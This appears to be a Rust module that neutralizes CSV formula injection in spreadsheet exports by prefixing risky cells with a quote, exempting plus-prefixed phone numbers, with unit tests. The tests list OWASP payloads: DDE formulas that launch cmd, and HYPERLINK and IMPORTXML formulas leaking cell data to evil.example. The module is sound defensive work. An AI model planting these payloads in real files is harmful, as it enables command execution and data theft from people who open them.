//! CSV injection (formula injection), per OWASP's "CSV Injection" page: a cell that starts with
//! `=`, `+`, `-`, `@`, a tab, a carriage return or a line feed may be run as a formula by Excel,
//! LibreOffice or WPS when the file is opened (`=HYPERLINK(…)`, `=cmd|' /C calc'!A0`). Such cells
//! are neutralized by prefixing a single quote, which makes the spreadsheet treat the cell as
//! text and shows the value otherwise unchanged.
//!
//! Leading spaces do not protect (spreadsheets skip them when parsing a formula), so the check
//! looks past them, and past invisible characters a pasted value may carry.
//!
//! Phone numbers are the one exception: `+8613800138000`, `+852-59123456` and `+86 138 0013 8000`
//! start with `+` and are what the importer expects. A cell that is `+` and a digit followed only
//! by digits, spaces, `-`, `.`, `(`, `)`, `,` and `*` (a masked digit) is left intact: with no
//! letters, quotes, `!`, `|` or `=` it can at most be read as arithmetic, never call a function
//! or reach another program.
//!
//! The neutralization applies to CSV and xlsx outputs, headers included (an extra column's header
//! comes from the input file). xlsx cells are written as text and are not formulas, but a sheet is
//! often re-saved as CSV; the quote keeps the value inert there too.

use crate::normalize::text::is_invisible;

/// Characters that make a spreadsheet read a cell as a formula (OWASP).
const TRIGGERS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// Could `value` be read as a formula?
pub fn is_formula_like(value: &str) -> bool {
    // Tabs, CR and LF are triggers themselves, so only the other blanks are skipped.
    let rest =
        value.trim_start_matches(|c: char| (c.is_whitespace() && !matches!(c, '\t' | '\r' | '\n')) || is_invisible(c));
    rest.starts_with(TRIGGERS)
}

/// Is `value` a phone number written with a leading `+` (see the module docs)?
pub fn is_inert_phone(value: &str) -> bool {
    let Some(rest) = value.strip_prefix('+') else { return false };
    rest.starts_with(|c: char| c.is_ascii_digit())
        && rest.chars().all(|c| c.is_ascii_digit() || matches!(c, ' ' | '-' | '.' | '(' | ')' | ',' | '*'))
        && rest.chars().filter(char::is_ascii_digit).count() >= 5
}

/// The value as it may safely be written to a spreadsheet cell: prefixed with `'` when it could
/// be read as a formula. Returns `None` when nothing needs to change.
pub fn neutralize(value: &str) -> Option<String> {
    (is_formula_like(value) && !is_inert_phone(value)).then(|| format!("'{value}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The payloads of OWASP's CSV Injection page and its references (DDE, HYPERLINK, IMPORTXML,
    /// the `@SUM` and `-2+3` forms, tab/CR/LF prefixes), and variants with leading spaces.
    const OWASP_PAYLOADS: &[&str] = &[
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tcmd",
        "   =1+1",
        " @SUM(A1:A9)",
        "\u{3000}=1+1",
        "\u{200B}=1+1",
        "+86 138 0013 8000=cmd|' /C calc'!A0",
        "+8613800138000;=1+1",
    ];

    #[test]
    fn every_owasp_payload_is_neutralized() {
        for p in OWASP_PAYLOADS {
            let out = neutralize(p).unwrap_or_else(|| panic!("{p:?} left as is"));
            assert_eq!(out, format!("'{p}"));
        }
    }

    #[test]
    fn phones_and_plain_text_stay() {
        for v in [
            "+8613800138000",
            "+86-13800138000",
            "+852-59123456",
            "+86 138 0013 8000",
            "+86-10-12345678,8001",
            "+86138****8000",
            "13800138000",
            "张三",
            "a=b",
            "zhangsan@example.com",
            "",
        ] {
            assert_eq!(neutralize(v), None, "{v:?}");
        }
        // A leading minus is not a phone; OWASP says neutralize.
        assert_eq!(neutralize("-"), Some("'-".into()));
        assert_eq!(neutralize("+86"), Some("'+86".into()));
    }
}
